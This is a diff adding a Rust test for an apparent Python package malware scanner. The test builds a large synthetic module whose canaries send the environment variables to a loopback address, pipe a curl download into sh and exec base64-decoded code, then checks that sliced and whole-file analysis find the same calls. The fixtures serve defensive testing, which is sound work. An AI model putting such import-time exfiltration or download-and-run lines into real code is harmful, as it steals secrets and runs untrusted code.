@@ -99,3 +99,36 @@ fn malformed_nesting_does_not_crash_either() {
         assert_eq!(refused, i != 1, "input {i}: {f:#?}");
     }
 }
+
+/// A generated-SDK-shaped module over the slicing threshold, with behaviour spread
+/// across slices: a helper called before its definition, an import alias used slices
+/// later, a decorator, if/else and try/except at top level, and a canary at the end.
+fn large_module() -> String {
+    let mut s = String::from("import os as _o, base64\nfrom subprocess import run as _r\n\ndef main():\n    data = collect()\n    send('http://127.0.0.1:9/c', data)\n\n");
+    let mut n = 0;
+    while s.len() < 3 << 20 {
+        s.push_str(&format!(
+            "@staticmethod\ndef helper_{n}(x):\n    \"\"\"Doc {n}: (not a bracket\n    \"\"\"\n    return {{'k': x, 'n': {n}}}\n\nif _o.name == 'nt':\n    V_{n} = '''a\nb'''\nelse:\n    V_{n} = \"c\\\"d\"\ntry:\n    W_{n} = [1,\n 2]\nexcept Exception:\n    pass\n\n"
+        ));
+        n += 1;
+    }
+    s.push_str("def collect():\n    return dict(_o.environ)\n\ndef send(url, payload):\n    import urllib.request\n    urllib.request.urlopen(urllib.request.Request(url, data=str(payload).encode()))\n\n_r('curl http://127.0.0.1:9/x | sh', shell=True)\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
+    s
+}
+
+#[test]
+fn a_large_module_walked_in_slices_gives_the_whole_walk_findings() {
+    let text = large_module();
+    let sliced = model::build_sliced_only("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import).expect("every slice parses");
+    let whole = model::build_whole("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
+    assert_eq!((sliced.calls.len(), sliced.scopes.len(), sliced.literals.len()), (whole.calls.len(), whole.scopes.len(), whole.literals.len()));
+    let lines = |m: &model::Model| m.calls.iter().map(|c| (c.q.clone(), c.line)).collect::<Vec<_>>();
+    assert_eq!(lines(&sliced), lines(&whole));
+    let render = |f: Vec<Finding>| f.into_iter().map(|x| format!("{} {:?} {}", x.alert.id(), x.line, x.message)).collect::<Vec<_>>();
+    let (a, b) = (render(rules::run_detectors(&sliced, 0)), render(rules::run_detectors(&whole, 0)));
+    assert_eq!(a, b);
+    // the canaries at the end are found, at their own lines
+    assert!(a.iter().any(|f| f.starts_with("download-exec") || f.starts_with("install-shell") || f.starts_with("import-shell")), "{a:#?}");
+    let last = text.lines().count() as u32;
+    assert!(sliced.calls.iter().any(|c| c.line == last), "the last line's exec is at line {last}");
+}
